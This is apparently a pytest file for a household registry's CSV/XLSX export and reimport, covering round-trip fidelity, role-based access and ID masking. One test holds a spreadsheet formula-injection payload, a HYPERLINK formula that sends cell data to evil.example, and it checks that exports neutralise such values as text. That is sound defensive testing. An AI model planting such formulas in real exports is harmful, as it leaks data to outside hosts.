"""Exports stream the import template's columns, so an export imports again as unchanged."""

import csv
import io

from openpyxl import load_workbook

from povguard import demo
from services.registry.imports.jobs import import_ledger
from services.registry.imports.template import HOUSEHOLD_COLUMNS
from shared.auth import Role
from tests.conftest import QIANXINAN

XINGYI = "522301000000"


async def _reimport(registry, job_ctx, role, region, filename: str, content: bytes) -> dict:
    client = registry.as_(role, region)
    response = await client.post(
        "/v1/imports", files={"file": (filename, content)}, data={"kind": "households"}
    )
    assert response.status_code == 202
    import_id = response.json()["import_id"]
    await import_ledger(job_ctx, import_id)
    return (await client.get(f"/v1/imports/{import_id}")).json()


async def test_csv_and_xlsx_exports_reimport_as_unchanged(registry, job_ctx, session_maker) -> None:
    loaded = await demo.load_with(session_maker, households=40, year=2025)
    officer = registry.as_(Role.county_officer, XINGYI)
    response = await officer.get("/v1/exports/households", params={"format": "csv"})
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0] == [c.header for c in HOUSEHOLD_COLUMNS]
    assert rows[1:]
    assert all(r[1].startswith("522301") for r in rows[1:])
    assert rows[1][9] == "户主"
    result = await _reimport(
        registry, job_ctx, Role.county_officer, XINGYI, "x.csv", response.content
    )
    assert result["status"] == "done"
    assert (result["rows_read"], result["unchanged"], result["accepted"], result["rejected"]) == (
        len(rows) - 1,
        len(rows) - 1,
        0,
        0,
    )

    admin = registry.as_(Role.province_admin, "520000000000")
    book = await admin.get("/v1/exports/households", params={"format": "xlsx", "region": QIANXINAN})
    assert book.status_code == 200
    sheet = load_workbook(io.BytesIO(book.content), read_only=True).active
    assert sum(1 for _ in sheet.iter_rows()) - 1 == loaded["households"]["rows"]
    result = await _reimport(
        registry, job_ctx, Role.province_admin, "520000000000", "x.xlsx", book.content
    )
    assert (result["unchanged"], result["rejected"]) == (loaded["households"]["rows"], 0)


async def test_export_masks_ids_below_county_and_keeps_departments_and_strangers_out(
    registry, session_maker
) -> None:
    await demo.load_with(session_maker, households=10, year=2025)
    township = registry.as_(Role.township_officer, "522301100000")
    rows = list(
        csv.reader(
            io.StringIO((await township.get("/v1/exports/households")).content.decode("utf-8-sig"))
        )
    )
    assert len(rows) > 1
    assert all("*************" in r[8] for r in rows[1:])
    department = registry.as_(Role.department, XINGYI)
    assert (await department.get("/v1/exports/households")).status_code == 403
    officer = registry.as_(Role.county_officer, XINGYI)
    other = await officer.get("/v1/exports/households", params={"region": "522323000000"})
    assert other.status_code == 404


async def test_households_entered_through_the_api_export_and_reimport_unchanged(
    registry, job_ctx, villages
) -> None:
    from tests.conftest import VILLAGE_A
    from tests.registry.helpers import household, id_number, member

    cadre = registry.as_(Role.village_cadre, VILLAGE_A)
    pupil = member("child", name="王小华", in_school=True, schooling_stage="junior")
    dropout = member("child", name="王小兰", schooling_stage="dropout", ethnicity="苗族")
    dropout["id_number"] = id_number(male=False)
    body = household(VILLAGE_A, "API-1", [member("head"), pupil, dropout], phone="")
    created = await cadre.post("/v1/households", json=body)
    assert created.status_code == 201, created.text
    assert created.json()["phone"] is None  # a blank phone is no phone, as in a ledger
    officer = registry.as_(Role.county_officer, XINGYI)
    exported = await officer.get("/v1/exports/households", params={"format": "csv"})
    result = await _reimport(
        registry, job_ctx, Role.county_officer, XINGYI, "x.csv", exported.content
    )
    assert (result["rows_read"], result["unchanged"], result["accepted"]) == (3, 3, 0)


async def test_text_that_would_run_as_a_formula_is_exported_as_text_and_reimports_unchanged(
    registry, job_ctx, villages
) -> None:
    from tests.conftest import VILLAGE_A
    from tests.registry.helpers import household, member

    address = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
    officer = registry.as_(Role.county_officer, XINGYI)
    body = household(
        VILLAGE_A,
        "@FORMULA-1",
        [member("head", name="-王小明"), member("child", name="+李小红", education="=1+1")],
        address=address,
        poverty_causes=["-因病"],
    )
    created = await officer.post("/v1/households", json=body)
    assert created.status_code == 201, created.text
    household_id = created.json()["id"]

    exported = await officer.get("/v1/exports/households", params={"format": "csv"})
    rows = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))[1:]
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'" + address in cells
    assert "'-王小明" in cells
    assert "'@FORMULA-1" in cells

    book = await officer.get("/v1/exports/households", params={"format": "xlsx"})
    sheet = load_workbook(io.BytesIO(book.content)).active
    values = [c for row in sheet.iter_rows(min_row=2) for c in row]
    assert not [c.coordinate for c in values if c.data_type == "f"]  # no live formula
    assert "'" + address in [c.value for c in values]

    for name, content in (("x.csv", exported.content), ("x.xlsx", book.content)):
        result = await _reimport(registry, job_ctx, Role.county_officer, XINGYI, name, content)
        assert (result["rows_read"], result["unchanged"], result["rejected"]) == (2, 2, 0), result
    again = (await officer.get(f"/v1/households/{household_id}")).json()
    assert again["address"] == address
    assert again["household_no"] == "@FORMULA-1"
    assert again["poverty_causes"] == ["-因病"]
    assert [m["name"] for m in again["members"]] == ["-王小明", "+李小红"]
    assert again["members"][1]["education"] == "=1+1"
